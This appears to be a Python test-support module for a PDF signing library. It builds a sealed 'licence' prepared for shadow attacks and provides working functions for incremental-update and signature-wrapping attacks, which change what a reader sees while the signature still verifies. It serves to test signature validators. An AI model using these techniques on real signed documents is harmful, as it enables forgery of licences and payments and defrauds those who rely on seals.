"""Building blocks for shadow attacks on sealed PDFs (Mainka, Mladenov, Rohlmann, Schwenk, NDSS 2021).

A shadow attack prepares a document *before* it is sealed so that a later incremental update
(ISO 32000-2 §7.5.6) can hide or replace what a reader sees while the seal's signed bytes stay
untouched. :func:`prepared_licence` writes such a document byte by byte, with fixed object
numbers (the constants below) so an attack can name the object it rewrites; :func:`append_update`
appends an update exactly as given: objects, xref entries that point an object number at bytes
already in the file, a new /Root, or no /Prev at all.

The prepared page, top to bottom (PDF points from the lower left of an A4 page):

* y 780, "Yinxin shadow test licence";
* y 730, "Status: VALID" in optional content group ``ocValid`` (on), and, at the same spot,
  "Status: REVOKED - do not accept" in ``ocRevoked`` (off);
* y 680, the form XObject ``/Fm1`` "Fee paid: 100 CNY" (``/Fm2``, "Fee paid: 900 CNY", sits
  unused in the same resources);
* y 630, "Amount: 1000 CNY" in Courier (``/F2``, its /Widths and /Encoding indirect objects);
* y 580, "Valid only with the original seal" in ``ocNote`` (on);
* y 500-530, the text field ``decision`` whose appearance says "Decision: Approved";
* y 440-470, a FreeText note "Checked by the registry office";
* y 380, "Registered capital: 50,000 CNY" drawn by the page's second content stream over the
  first one's "Registered capital: 5,000,000 CNY" (each on an opaque white box);
* a Stamp annotation "Status: REVOKED - do not accept" over the status line, flagged Hidden.

Outside the page tree, and so invisible, but signed with everything else: a second catalog and
page tree whose only page says "Status: REVOKED" and "Fee paid: 900 CNY", and a second
definition of the first content stream (object :data:`CONTENT`) that is in no xref section.
"""

from __future__ import annotations

import io
import re
from collections.abc import Mapping

from pyhanko.pdf_utils.reader import PdfFileReader

from tests.signing._pdf_support import object_source

# Object numbers of the prepared licence.
CATALOG = 1
PAGES = 2
PAGE = 3
RESOURCES = 4
CONTENT = 5  # the main content stream (drawn second)
UNDER_CONTENT = 6  # drawn first: "5,000,000 CNY", covered by CONTENT's "50,000 CNY"
HELVETICA = 7
COURIER = 8
COURIER_WIDTHS = 9
FEE_FORM = 10  # /Fm1, drawn
SHADOW_FEE_FORM = 11  # /Fm2, in the resources, never drawn
COURIER_ENCODING = 12
OC_PROPERTIES = 20
OCG_VALID = 21
OCG_REVOKED = 22
OCG_NOTE = 23
ACRO_FORM = 30
DECISION_FIELD = 31
DECISION_APPEARANCE = 32
NOTE = 40
HIDDEN_STAMP = 41
NOTE_APPEARANCE = 42
HIDDEN_STAMP_APPEARANCE = 43
ANNOTS = 44
SHADOW_CATALOG = 50
SHADOW_PAGES = 51
SHADOW_PAGE = 52
SHADOW_CONTENT = 53

MEDIA_BOX = b"[0 0 595 842]"
# ISO 32000-2 §12.5.3 annotation flags.
HIDDEN, PRINT = 2, 4
# Courier: every glyph is 600/1000 em wide.
COURIER_WIDTHS_SOURCE = b"[" + b" ".join([b"600"] * 95) + b"]"
COURIER_ENCODING_SOURCE = b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [128 /bullet] >>"


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """An indirect stream object's body: dictionary (with *extra* entries) and data."""
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(content), extra, content)


def form_xobject(content: bytes, width: int, height: int, resources: bytes = b"") -> bytes:
    """A form XObject (ISO 32000-2 §8.10) of *width* x *height* points."""
    extra = b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << %s >> " % (
        width,
        height,
        resources,
    )
    return stream(content, extra)


def text(x: int, y: int, words: str, *, font: bytes = b"/F1", size: int = 18, rgb: bytes = b"0 0 0") -> bytes:
    escaped = words.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")
    return b"BT %s %d Tf %s rg %d %d Td (%s) Tj ET\n" % (font, size, rgb, x, y, escaped)


def white_box(x: int, y: int, width: int, height: int) -> bytes:
    return b"q 1 1 1 rg %d %d %d %d re f Q\n" % (x, y, width, height)


def optional(group: bytes, content: bytes) -> bytes:
    """*content* as marked content in the optional content group *group* (ISO 32000-2 §8.11.3.2)."""
    return b"/OC " + group + b" BDC\n" + content + b"EMC\n"


FRAME = b"0.5 0.5 0.5 RG 1 w 36 36 523 770 re S\n"
TITLE = text(72, 780, "Yinxin shadow test licence")
STATUS_LINE = (72, 730)
FEE_LINE = (72, 680)
AMOUNT_LINE = (72, 630)


def main_content(*, status: bytes | None = None, fee: bytes = b"/Fm1") -> bytes:
    """The page's main content stream; *status* replaces the two optional status lines."""
    statuses = status or (
        optional(b"/ocValid", text(*STATUS_LINE, "Status: VALID"))
        + optional(b"/ocRevoked", text(*STATUS_LINE, "Status: REVOKED - do not accept", rgb=b"0.8 0 0"))
    )
    return (
        FRAME
        + TITLE
        + statuses
        + b"q 1 0 0 1 %d %d cm %s Do Q\n" % (*FEE_LINE, fee)
        + text(*AMOUNT_LINE, "Amount: 1000 CNY", font=b"/F2")
        + optional(b"/ocNote", text(72, 580, "Valid only with the original seal", size=14))
        + white_box(60, 370, 480, 40)
        + text(72, 380, "Registered capital: 50,000 CNY")
    )


def fee_form(words: str) -> bytes:
    return form_xobject(text(0, 8, words, size=16), 400, 30, b"/Font << /F1 %d 0 R >>" % HELVETICA)


def appearance(content: bytes, width: int, height: int) -> bytes:
    return form_xobject(content, width, height, b"/Font << /F1 %d 0 R >>" % HELVETICA)


def _objects() -> dict[int, bytes]:
    fonts = b"/Font << /F1 %d 0 R /F2 %d 0 R >>" % (HELVETICA, COURIER)
    resources = (
        b"<< %s /XObject << /Fm1 %d 0 R /Fm2 %d 0 R >> "
        b"/Properties << /ocValid %d 0 R /ocRevoked %d 0 R /ocNote %d 0 R >> >>"
        % (fonts, FEE_FORM, SHADOW_FEE_FORM, OCG_VALID, OCG_REVOKED, OCG_NOTE)
    )
    ocgs = b"[%d 0 R %d 0 R %d 0 R]" % (OCG_VALID, OCG_REVOKED, OCG_NOTE)
    return {
        CATALOG: b"<< /Type /Catalog /Pages %d 0 R /OCProperties %d 0 R /AcroForm %d 0 R >>"
        % (PAGES, OC_PROPERTIES, ACRO_FORM),
        PAGES: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % PAGE,
        PAGE: b"<< /Type /Page /Parent %d 0 R /MediaBox %s /Resources %d 0 R /Contents [%d 0 R %d 0 R] "
        b"/Annots %d 0 R >>" % (PAGES, MEDIA_BOX, RESOURCES, UNDER_CONTENT, CONTENT, ANNOTS),
        RESOURCES: resources,
        CONTENT: stream(main_content()),
        UNDER_CONTENT: stream(
            white_box(60, 370, 480, 40) + text(72, 380, "Registered capital: 5,000,000 CNY")
        ),
        HELVETICA: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        COURIER: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /FirstChar 32 /LastChar 126 "
        b"/Widths %d 0 R /Encoding %d 0 R >>" % (COURIER_WIDTHS, COURIER_ENCODING),
        COURIER_WIDTHS: COURIER_WIDTHS_SOURCE,
        COURIER_ENCODING: COURIER_ENCODING_SOURCE,
        FEE_FORM: fee_form("Fee paid: 100 CNY"),
        SHADOW_FEE_FORM: fee_form("Fee paid: 900 CNY"),
        OC_PROPERTIES: b"<< /OCGs %s /D << /Order %s /ON [%d 0 R %d 0 R] /OFF [%d 0 R] >> >>"
        % (ocgs, ocgs, OCG_VALID, OCG_NOTE, OCG_REVOKED),
        OCG_VALID: b"<< /Type /OCG /Name (Status valid) >>",
        OCG_REVOKED: b"<< /Type /OCG /Name (Status revoked) >>",
        OCG_NOTE: b"<< /Type /OCG /Name (Conditions) >>",
        ACRO_FORM: b"<< /Fields [%d 0 R] /DA (/F1 14 Tf 0 g) /DR << /Font << /F1 %d 0 R >> >> >>"
        % (DECISION_FIELD, HELVETICA),
        DECISION_FIELD: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (decision) /V (Approved) "
        b"/Rect [72 500 300 530] /F %d /P %d 0 R /DA (/F1 14 Tf 0 g) /AP << /N %d 0 R >> >>"
        % (PRINT, PAGE, DECISION_APPEARANCE),
        DECISION_APPEARANCE: decision_appearance("Decision: Approved"),
        NOTE: b"<< /Type /Annot /Subtype /FreeText /Rect [72 440 400 470] /F %d "
        b"/Contents (Checked by the registry office) /DA (/F1 14 Tf 0 0 1 rg) /AP << /N %d 0 R >> >>"
        % (PRINT, NOTE_APPEARANCE),
        NOTE_APPEARANCE: appearance(
            text(4, 9, "Checked by the registry office", size=14, rgb=b"0 0 1"), 328, 30
        ),
        HIDDEN_STAMP: b"<< /Type /Annot /Subtype /Stamp /Rect [60 720 540 760] /F %d "
        b"/Contents (Status: REVOKED) /AP << /N %d 0 R >> >>" % (HIDDEN, HIDDEN_STAMP_APPEARANCE),
        HIDDEN_STAMP_APPEARANCE: appearance(
            white_box(0, 0, 480, 40) + text(12, 10, "Status: REVOKED - do not accept", rgb=b"0.8 0 0"),
            480,
            40,
        ),
        ANNOTS: b"[%d 0 R %d 0 R %d 0 R]" % (DECISION_FIELD, NOTE, HIDDEN_STAMP),
        # The shadow document: a catalog and page tree no reader reaches from the trailer.
        SHADOW_CATALOG: b"<< /Type /Catalog /Pages %d 0 R /AcroForm %d 0 R >>" % (SHADOW_PAGES, ACRO_FORM),
        SHADOW_PAGES: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % SHADOW_PAGE,
        SHADOW_PAGE: b"<< /Type /Page /Parent %d 0 R /MediaBox %s /Resources %d 0 R /Contents %d 0 R "
        b"/Annots %d 0 R >>" % (SHADOW_PAGES, MEDIA_BOX, RESOURCES, SHADOW_CONTENT, ANNOTS),
        SHADOW_CONTENT: stream(shadow_content()),
    }


def decision_appearance(words: str) -> bytes:
    return appearance(b"0.9 0.95 0.9 rg 0 0 228 30 re f\n" + text(4, 9, words, size=14), 228, 30)


def shadow_content() -> bytes:
    """The page as the forger wants it read: revoked, and 900 CNY paid."""
    revoked = text(*STATUS_LINE, "Status: REVOKED - do not accept", rgb=b"0.8 0 0")
    return main_content(status=revoked, fee=b"/Fm2")


_DEAD_MARK = b"% shadow definition of the content stream\n"


def prepared_licence() -> bytes:
    """The prepared licence: a valid-looking page with its shadows already inside (module docstring)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(_objects().items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    # A second definition of the content stream, in no xref section: "dead" bytes a later
    # update's xref can bring to life without writing a single object.
    out += _DEAD_MARK + b"%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(shadow_content()))
    size = max(offsets) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
    out += (
        b"trailer\n<< /Size %d /Root %d 0 R /ID [<5348414457>  <5348414457>] >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, CATALOG, xref_at)
    )
    return bytes(out)


def dead_definition_offset(pdf: bytes) -> int:
    """Where the unlisted second definition of :data:`CONTENT` starts."""
    return pdf.index(_DEAD_MARK) + len(_DEAD_MARK)


def append_update(
    pdf: bytes,
    objects: Mapping[int, bytes] | None = None,
    *,
    pointing: Mapping[int, int] | None = None,
    root: int | None = None,
    xref: bool = True,
) -> bytes:
    """*pdf* plus a hand-written incremental update, nothing refreshed behind the caller's back.

    *objects* are written in the update; *pointing* adds xref entries for object numbers at byte
    offsets already in the file; *root* replaces the trailer's /Root. ``xref=False`` appends the
    objects alone, with neither xref section nor trailer.
    """
    previous = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    body = bytearray(b"\n")
    entries = dict(pointing or {})
    for number, content in sorted((objects or {}).items()):
        entries[number] = len(pdf) + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    if not xref:
        return pdf + bytes(body)
    xref_at = len(pdf) + len(body)
    size = max(
        [int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer["/Size"]), *(n + 1 for n in entries)]
    )
    body += (xref_section(entries) if entries else b"xref\n0 0\n") + trailer(
        pdf, size=size, prev=previous, root=root
    )
    body += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return pdf + bytes(body)


def object_offsets(pdf: bytes) -> tuple[dict[int, int], dict[int, int]]:
    """Where each in-use object of *pdf* is, newest revision first: (all objects, the newest section's).

    Follows ``startxref`` and the trailers' /Prev through classic xref tables (ISO 32000-2 §7.5.4),
    the only kind this module and the sealing writer produce for these documents.
    """
    everything: dict[int, int] = {}
    newest: dict[int, int] | None = None
    at: int | None = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    while at is not None:
        assert pdf[at : at + 4] == b"xref", at
        section: dict[int, int] = {}
        lines = iter(pdf[at + 4 : pdf.index(b"trailer", at)].split(b"\n"))
        for line in lines:
            if not line.strip():
                continue
            first, count = (int(v) for v in line.split())
            for number in range(first, first + count):
                where, _, kind = next(lines).split()
                if kind == b"n":
                    section[number] = int(where)
        for number, offset in section.items():
            everything.setdefault(number, offset)
        newest = section if newest is None else newest
        dictionary = pdf[pdf.index(b"trailer", at) : pdf.index(b"startxref", at)]
        prev = re.search(rb"/Prev\s+(\d+)", dictionary)
        at = int(prev.group(1)) if prev else None
    assert newest is not None
    return everything, newest


def xref_section(entries: Mapping[int, int], *, complete_to: int | None = None) -> bytes:
    """A classic xref section: one subsection per entry, or, with *complete_to*, the whole table."""
    if complete_to is None:
        return b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, o) for n, o in sorted(entries.items()))
    rows = [
        b"%010d 00000 n \n" % entries[n] if n in entries else b"0000000000 65535 f \n"
        for n in range(complete_to)
    ]
    return b"xref\n0 %d\n" % complete_to + b"".join(rows)


def trailer(pdf: bytes, *, size: int, prev: int | None, root: int | None = None) -> bytes:
    """A trailer dictionary like *pdf*'s newest one, with its own /Size, /Prev and /Root."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    view = reader.trailer_view
    ids = b" ".join(b"<" + bytes(i.original_bytes).hex().encode() + b">" for i in view["/ID"])
    info = b"/Info %d 0 R " % view.raw_get("/Info").idnum if "/Info" in view else b""
    back = b"/Prev %d " % prev if prev is not None else b""
    number = root if root is not None else reader.root_ref.idnum
    return b"trailer\n<< /Size %d /Root %d 0 R %s%s/ID [%s] >>\n" % (size, number, info, back, ids)


def rewritten_whole(pdf: bytes, objects: Mapping[int, bytes]) -> bytes:
    """An update whose xref lists *every* object and whose trailer has no /Prev (ISA, Mladenov et al.).

    A reader sees one revision, the whole document, in which the seal's bytes are just a prefix.
    """
    offsets, _ = object_offsets(pdf)
    body = bytearray(b"\n")
    for number, content in sorted(objects.items()):
        offsets[number] = len(pdf) + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    size = max(offsets) + 1
    xref_at = len(pdf) + len(body)
    body += xref_section(offsets, complete_to=size) + trailer(pdf, size=size, prev=None)
    body += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return pdf + bytes(body)


def signed_ranges(pdf: bytes) -> tuple[int, int, int, int]:
    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert match is not None
    a, b, c, d = (int(v) for v in match.groups())
    return a, b, c, d


def wrapped(pdf: bytes, signature: int, objects: Mapping[int, bytes]) -> bytes:
    """Signature wrapping (SWA, Mladenov et al., NDSS 2019): the signed bytes kept, the document not.

    The second signed range moves back; the room opened after the signature value holds a new xref
    section exactly where the file's last ``startxref`` points, *objects*, and a copy of signature
    dictionary *signature* whose /ByteRange names the moved range, so the same bytes are hashed and
    the CMS signature still verifies. A reader following the xref sees the sealed revision with
    *objects* in it; the original signature dictionary and xref section become dead bytes.
    """
    _, b, c, d = signed_ranges(pdf)
    startxref = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    assert c + d == len(pdf) and startxref > c  # the newest xref section lies in the second range
    _, section = object_offsets(pdf)
    prev = re.search(rb"/Prev\s+(\d+)", pdf[pdf.rindex(b"trailer") :])
    assert prev is not None
    size = int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer["/Size"])
    original = object_source(pdf, signature)

    def copy(start2: int) -> bytes:  # fixed-width numbers: the copy's length does not depend on them
        return re.sub(
            rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 %010d %010d %010d]" % (b, start2, d), original
        )

    def xref(shift: int, placed: Mapping[int, int]) -> bytes:
        entries = {n: o + shift if o >= c else o for n, o in section.items()}
        entries.update(placed)
        return xref_section(entries) + trailer(pdf, size=size, prev=int(prev.group(1)))

    numbers = [*sorted(objects), signature]
    bodies = [*(objects[n] for n in sorted(objects)), copy(0)]
    xref_length = len(xref(0, dict.fromkeys(numbers, 0)))
    room = (
        (startxref - c)
        + xref_length
        + sum(len(b"%d 0 obj\n%s\nendobj\n" % nb) for nb in zip(numbers, bodies, strict=True))
    )
    bodies[-1] = copy(c + room)
    placed: dict[int, int] = {}
    tail = bytearray()
    for number, body in zip(numbers, bodies, strict=True):
        placed[number] = startxref + xref_length + len(tail)
        tail += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    inserted = b"\n" * (startxref - c) + xref(room, placed) + bytes(tail)
    assert len(inserted) == room, (len(inserted), room)
    return pdf[:c] + inserted + pdf[c:]
